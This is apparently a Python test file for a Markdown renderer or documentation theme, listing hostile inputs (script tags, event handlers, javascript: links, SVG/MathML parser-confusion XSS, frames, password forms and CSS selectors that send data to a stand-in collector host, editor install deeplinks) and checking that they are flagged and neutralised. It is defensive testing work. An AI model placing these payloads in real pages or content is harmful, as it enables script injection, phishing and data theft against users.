"""Markup and script in bodies: none of it runs, calls a host or takes the theme over, and no text is lost."""

from __future__ import annotations

from tests.hostile.case import INFO, WARNING, Case, body, front

_PWN = "window.pwned=1"
_HTML, _LINK, _IMAGE = "unsafe-html", "unsafe-link", "remote-image"
_FAR = "//collector.invalid"


def _bad(name: str, markdown: str, code: str = _HTML, **wanted: object) -> Case:
    return body(name, markdown, WARNING, code, **wanted)  # type: ignore[arg-type]


_SCRIPTS = (
    _bad("script block", f"<script>\n{_PWN}\n</script>", line=7),
    _bad("script in a paragraph", f"Plants <script>{_PWN}</script> grow.", line=7, shows="grow."),
    _bad("script in capitals and with a space at its end", f"<ScRiPt >{_PWN}</sCrIpT\n>"),
    _bad("script from elsewhere", f'<script src="https:{_FAR}/a.js"></script>'),
    _bad("script never closed", f"<script>{_PWN}"),
    _bad("nested script tags", f"<scr<script>ipt>{_PWN}</scr</script>ipt>"),
    _bad("module script", f'<script type="module">{_PWN}</script>'),
    _bad("script types that are no JavaScript", '<script type="speculationrules">{"prefetch":[]}</script>'),
    _bad(
        "JSON script with the theme's id",
        '<script id="__config" type="application/json">{"base":"https:' + _FAR + '"}</script>',
    ),
    _bad("import map", '<script type="importmap">{"imports":{"a":"https:' + _FAR + '"}}</script>'),
)

_HANDLERS = (
    _bad("image with an error handler", f'<img src="x" onerror="{_PWN}">'),
    _bad("attributes separated by slashes", f"<img/src=x/onerror={_PWN}>"),
    _bad("handler without quotes in capitals", f"<IMG SRC=x OnErRoR={_PWN}>"),
    _bad("svg with a load handler", f'<svg onload="{_PWN}"></svg>'),
    _bad("autofocus and focus handler", f'<input autofocus onfocus="{_PWN}">'),
    _bad(
        "details with a toggle handler",
        f'<details open ontoggle="{_PWN}"><summary>More</summary>in</details>',
    ),
    _bad("media error handlers", f'<video><source onerror="{_PWN}"></video><audio src=x onerror="{_PWN}">'),
    _bad("second body element", f'<body onload="{_PWN}" onpageshow="{_PWN}">'),
    _bad("marquee with a start handler", f'<marquee onstart="{_PWN}">rolls</marquee>', shows="rolls"),
    _bad("handler on a heading", f'<h2 onclick="{_PWN}">Loud</h2>', shows="Loud"),
    _bad("custom element with a handler", f'<x-note onclick="{_PWN}">note</x-note>', shows="note"),
    _bad("namespaced element with a handler", f'<a:b onmouseover="{_PWN}">space</a:b>', shows="space"),
    _bad("handler of an animation", f'<p onanimationstart="{_PWN}">moves</p>', shows="moves"),
    _bad("handler behind a line end", f'<img src="x"\nonerror="{_PWN}">'),
    _bad("handler behind a closing quote", f'<p title="a"onclick="{_PWN}">glued</p>', shows="glued"),
    _bad(
        "md_in_html keeps the handlers",
        f'<div markdown="1" onclick="{_PWN}">\n\n**kept**\n\n</div>',
        shows="kept",
    ),
    _bad("markup in a task", f'- [ ] water <img src=x onerror="{_PWN}"> daily\n- [ ] plain', shows="daily"),
    _bad("markup in a table", f'| a | b |\n|---|---|\n| <img src=x onerror="{_PWN}"> | cell |', shows="cell"),
    _bad("markup in a heading", f'## Loud <img src=x onerror="{_PWN}"> heading', shows="heading"),
    _bad("markup in the first heading", f'# Loud <img src=x onerror="{_PWN}"> title', shows="title"),
    _bad("markup in a footnote", f'Text[^1].\n\n[^1]: note <img src=x onerror="{_PWN}"> end', shows="note"),
)

_SVG_AND_MATH = (
    _bad("script in drawn svg", f"<svg><script>{_PWN}</script></svg>"),
    _bad(
        "animation sets a link",
        '<svg><a><animate attributeName="href" values="javascript:window.pwned=1"/><text>x</text></a></svg>',
    ),
    _bad("svg use with data", '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>'),
    _bad("svg and style confusion", f'<svg></p><style><a id="</style><img src=1 onerror={_PWN}>">'),
    _bad(
        "math and mglyph confusion",
        f'<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src=1 onerror={_PWN}&gt;">',
    ),
    _bad("noscript attribute", f'<noscript><p title="</noscript><img src=x onerror={_PWN}>">'),
    _bad(
        "elements whose text is raw",
        f'<textarea><p title="</textarea><img src=x onerror={_PWN}>"></textarea>',
    ),
    _bad(
        "foreign object",
        f'<svg><foreignObject><iframe srcdoc="<script>{_PWN}</script>"></iframe></foreignObject></svg>',
    ),
)

_LINKS = (
    _bad("link with a script", "[open](javascript:window.pwned=1)", _LINK, shows="open", line=7),
    _bad("script link in capitals", "[open](JaVaScRiPt:window.pwned=1)", _LINK, shows="open"),
    _bad("script link in entities", "[open](&#106;avascript&colon;window.pwned=1)", _LINK, shows="open"),
    _bad(
        "script link with a control character", "[open](<java\tscript:window.pwned=1>)", _LINK, shows="open"
    ),
    _bad("script link with a line end entity", "[open](java&#10;script:window.pwned=1)", _LINK, shows="open"),
    _bad("script link by reference", "[open][r]\n\n[r]: javascript:window.pwned=1", _LINK, shows="open"),
    _bad("script link in an element", '<a href="javascript:window.pwned=1">open</a>', _LINK, shows="open"),
    _bad(
        "script link with a leading entity",
        '<a href="&#1;javascript:window.pwned=1">open</a>',
        _LINK,
        shows="open",
    ),
    _bad("autolink with a script", "<javascript:window.pwned=1>", _LINK),
    _bad("link to vbscript", "[open](vbscript:msgbox)", _LINK, shows="open"),
    _bad("link to a local file", "[open](file:///etc/hostname)", _LINK, shows="open"),
    _bad("link to a blob", "[open](blob:https://collector.invalid/1)", _LINK, shows="open"),
    _bad(
        "link that installs something", "[add](cursor://anysphere.cursor-deeplink/mcp/install?name=x)", _LINK
    ),
    _bad("link into an editor", "[add](vscode:mcp/install?x)", _LINK, shows="add"),
    _bad("link to data", "[open](data:text/html,<script>window.pwned=1</script>)", _LINK, shows="open"),
    _bad("image of data", "![drawing](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", f"{_LINK} {_IMAGE}"),
    _bad(
        "link that keeps its opener",
        '<a href="https://example.org/" rel="opener" target="_blank">out</a>',
        shows="out",
    ),
    _bad("link that pings", f'<a href="https://example.org/" ping="https:{_FAR}">out</a>', shows="out"),
    _bad(
        "image map",
        '<map name="m"><area href="javascript:window.pwned=1"></map><img src="x.png" usemap="#m">',
    ),
    body(
        "break-out of a title",
        '[a](https://example.org "x\\" onmouseover=\\"window.pwned=1")',
        shows="a",
        least=WARNING,
    ),
    body("break-out of alternative text", '![a" onerror="window.pwned=1](x.png)'),
    body("break-out of an address", '[a](https://example.org/"onmouseover="window.pwned=1)'),
    body(
        "break-out of a code block's title",
        '```python title="x\\" onclick=\\"window.pwned=1"\na = 1\n```',
        shows="a = 1",
        least=WARNING,
    ),
    body("break-out of a language", '```x"onclick="window.pwned=1\nb = 2\n```', shows="b = 2"),
)

_FRAMES_AND_FORMS = (
    _bad("frame of another host", f'<iframe src="https:{_FAR}/"></iframe>'),
    _bad("frame with a document", f'<iframe srcdoc="<script>parent.{_PWN}</script>"></iframe>'),
    _bad("frame with a script address", '<iframe src="javascript:parent.window.pwned=1"></iframe>'),
    _bad("object", f'<object data="https:{_FAR}/a.swf"></object>'),
    _bad("embed", f'<embed src="https:{_FAR}/a.swf">'),
    _bad("applet", '<applet code="A.class"></applet>'),
    _bad("base", f'<base href="https:{_FAR}/">'),
    _bad("refresh", f'<meta http-equiv="refresh" content="0;url=https:{_FAR}/">'),
    _bad(
        "policy that breaks the page",
        '<meta http-equiv="Content-Security-Policy" content="default-src none">',
    ),
    _bad(
        "form that asks for a password",
        f'<form action="https:{_FAR}/"><input type="password" name="p"></form>',
    ),
    _bad(
        "button with a script action",
        '<form><button formaction="javascript:window.pwned=1">go</button></form>',
    ),
    _bad("control of a form that is elsewhere", '<input form="__search" name="q" value="x">'),
    _bad(
        "popover without script",
        '<div popover id="pop">over</div><button popovertarget="pop">x</button>',
        shows="over",
    ),
    _bad("dialog without script", "<dialog open>Sign in again</dialog>", shows="Sign in again"),
    _bad(
        "declarative shadow tree",
        f'<div><template shadowrootmode="open"><b onclick="{_PWN}">x</b></template></div>',
    ),
    _bad("link element", f'<link rel="stylesheet" href="https:{_FAR}/a.css">'),
    _bad(
        "portal and frameset",
        f'<frameset><frame src="https:{_FAR}"></frameset><portal src="https:{_FAR}"></portal>',
    ),
    _bad(
        "pictures that call home",
        f'<img srcset="https:{_FAR}/a.png 1x"><picture><source srcset="{_FAR}/b"></picture>',
        "",
    ),
    _bad("image on another host", f"![chart](https:{_FAR}/a.png)", _IMAGE, shows="chart", line=7),
    _bad(
        "image on another host in an element",
        f'<img src="https:{_FAR}/a.png" alt="chart">',
        _IMAGE,
        shows="chart",
    ),
    _bad("image without a scheme", f"![chart]({_FAR}/a.png)", _IMAGE),
    _bad("image by reference", f"![chart][c]\n\n[c]: https:{_FAR}/a.png", _IMAGE),
    _bad(
        "background of a table",
        f'<table background="https:{_FAR}/a.png"><tr><td>cell</td></tr></table>',
        "",
        shows="cell",
    ),
)

_LOOKS = (
    _bad("style hides the site", "<style>body{display:none}</style>"),
    _bad("style import", f'<style>@import "https:{_FAR}/a.css";</style>'),
    _bad(
        "style that reads attributes", f'<style>input[value^="a"]{{background:url(https:{_FAR}/a)}}</style>'
    ),
    _bad(
        "overlay over the page",
        '<div style="position:fixed;inset:0;z-index:9999">Sign in</div>',
        shows="Sign in",
    ),
    _bad(
        "text hidden from readers",
        '<span style="display:none">Unseen sentence.</span>',
        shows="Unseen sentence.",
    ),
    _bad(
        "text in the colour of the page",
        '<p style="color:#fff;font-size:0">Pale words.</p>',
        shows="Pale words.",
    ),
    _bad("text hidden by an attribute", "<p hidden>Hidden words.</p>", shows="Hidden words."),
    _bad(
        "theme's classes",
        '<div class="md-overlay md-nav" data-md-component="search">taken</div>',
        shows="taken",
    ),
    _bad("theme's settings", '<div id="__config">{"base":"/"}</div>', shows='{"base":"/"}'),
    _bad(
        "theme's toggles",
        '<a id="__drawer"></a><a id="__search"></a><b id="__toc">toggles</b>',
        shows="toggles",
    ),
    body(
        "settings of the theme by an attribute list",
        '`{"base":"https://x"}`{: #__config }',
        shows="{: #__config }",
        least=WARNING,
    ),
    body(
        "handlers by an attribute list",
        "A word{: onclick=window.pwned=1 }\n{: onmouseover=window.pwned=1 }",
        least=WARNING,
    ),
    body(
        "attribute list on a code block",
        "``` {: .python onclick=window.pwned=1 }\nx = 1\n```",
        shows="x = 1",
        least=WARNING,
    ),
    body(
        "label of the contents",
        '## Plain {: data-toc-label="<img src=x onerror=window.pwned=1>" }',
        shows="Plain",
        least=WARNING,
    ),
    body("theme's class by an attribute list", "Buy{: .md-button .md-overlay }", shows="Buy", least=WARNING),
    _bad(
        "classic names of a page's own objects",
        '<img name="body"><a id="location"></a><i id="getElementById">named</i>',
        "",
        shows="named",
    ),
    _bad(
        "spoofed controls of the header",
        '<header class="md-header"><label class="md-icon" for="__drawer">X</label></header>',
    ),
    _bad("huge image", '<img src="x.png" width="99999999" height="99999999" alt="huge">', ""),
    body(
        "wide spans of a table",
        '<table><tr><td colspan="9999999" rowspan="9999999">span</td></tr></table>',
        shows="span",
    ),
)

_BROKEN = (
    body(
        "comment closed by two dashes and a space",
        "<!-- note -- >\n\nStill here.",
        WARNING,
        _HTML,
        shows="Still here.",
    ),
    _bad("comment never closed", "<!-- begins\n\nStill here.", shows="Still here.", line=7),
    _bad("text area never closed", "<textarea>\n\nStill here.", shows="Still here."),
    _bad("title never closed", "<title>\n\nStill here.", shows="Still here."),
    _bad("style never closed", "<style>\n\nStill here.", shows="Still here."),
    _bad("frame never closed", "<iframe>\n\nStill here.", shows="Still here."),
    _bad("plaintext", "<plaintext>\n\nStill here.", shows="Still here."),
    _bad(
        "obsolete elements of raw text",
        "<xmp>a</xmp><listing>b</listing><noembed>c</noembed>\n\nStill here.",
        shows="Still here.",
    ),
    _bad("table never closed", "<table><tr><td>cell\n\nStill here.", shows="Still here."),
    _bad("select never closed", "<select><option>one\n\nStill here.", shows="Still here."),
    _bad("blocks never closed", "<div><section><details><summary>Sum\n\nStill here.", shows="Still here."),
    _bad("stray end tags", "</div></main></article></body></html>\n\nStill here.", shows="Still here."),
    _bad("character data section", "<![CDATA[ x ]]> and <![ x\n\nStill here.", shows="Still here."),
    _bad("processing instruction", "<?php echo 1 ?>\n\nStill here.", "", shows="Still here."),
    _bad("document type", "<!DOCTYPE html>\n\nStill here.", "", shows="Still here."),
    _bad("truncated declaration", "<! x\n<!\n<?\n<![\n\nStill here.", "", shows="Still here."),
    _bad("tag cut off at the end of a line", "<img src=x onerror=\n\nStill here.", shows="Still here."),
    _bad(
        "tag cut off at the end of the file",
        "Text <img src=x onerror=window.pwned=1",
        "unsafe-html",
        ends=True,
    ),
    body("fence never closed", "```python\nprint(1)", WARNING, "fence", shows="print(1)", line=7),
)

_TEXT = (
    body(
        "markup in code",
        '`<script>window.pwned=1</script>`\n\n```html\n<img src=x onerror="window.pwned=1">\n```',
        most=INFO,
        shows=("<script>window.pwned=1</script>", "<img src=x"),
    ),
    body(
        "markup in an indented block",
        "    <script>window.pwned=1</script>",
        most=INFO,
        shows="<script>window",
    ),
    body("escaped markup", "\\<script>window.pwned=1\\</script> and &lt;b&gt;", most=INFO, shows="<b>"),
    body(
        "abbreviations",
        "*[HTML]: <b onclick=window.pwned=1>x</b>\n\nThe HTML of it.",
        shows="The HTML of it.",
    ),
    body(
        "pseudo tags of prompts",
        "<example>\nuser: hello\n</example>\n\nRead <file_path> first.",
        most=INFO,
        shows=("<example>", "user: hello", "</example>", "<file_path>"),
    ),
    body(
        "sections of prompts",
        "<instructions>\n\n- **Bold** point\n\n</instructions>",
        most=INFO,
        shows=("<instructions>", "Bold point", "</instructions>"),
    ),
    body("math with commands", "$\\href{javascript:window.pwned=1}{x}$ and \\(\\style{position:fixed}{y}\\)"),
    body(
        "diagram lowers its own guard",
        "```mermaid\n%%{init: {'securityLevel':'loose'}}%%\ngraph TD; A-->B\n"
        'click A "javascript:window.pwned=1"\n```',
        WARNING,
        _HTML,
    ),
    body("admonition's title and class", '!!! md-overlay "<b>Title</b>"\n    text', shows="text"),
    body("title of a tab", '=== "<b>Tab</b>"\n\n    inside', shows="inside"),
    body("marks of an editor", "{++<b onclick=window.pwned=1>x</b>++} {>>y<<} ++ctrl+<b>++ ==z=="),
    body(
        "blocks that make elements",
        "/// html | script\nwindow.pwned=1\n///\n\n/// html | div[onclick=x]\n///",
        shows="/// html | script",
        least=WARNING,
    ),
    body(
        "emoji with an attribute list", ":smile:{: onclick=window.pwned=1 }", shows=":smile:", least=WARNING
    ),
    body("doubled ids", '<a id="one"></a><a id="one"></a>\n\n## One\n\n## One', shows="One"),
)

_ELSEWHERE = (
    front(
        "script in a description",
        f'description: "<script>{_PWN}</script> mows lawns"',
        WARNING,
        shows="mows lawns",
    ),
)

CASES: tuple[Case, ...] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_SVG_AND_MATH,
    *_LINKS,
    *_FRAMES_AND_FORMS,
    *_LOOKS,
    *_BROKEN,
    *_TEXT,
    *_ELSEWHERE,
)
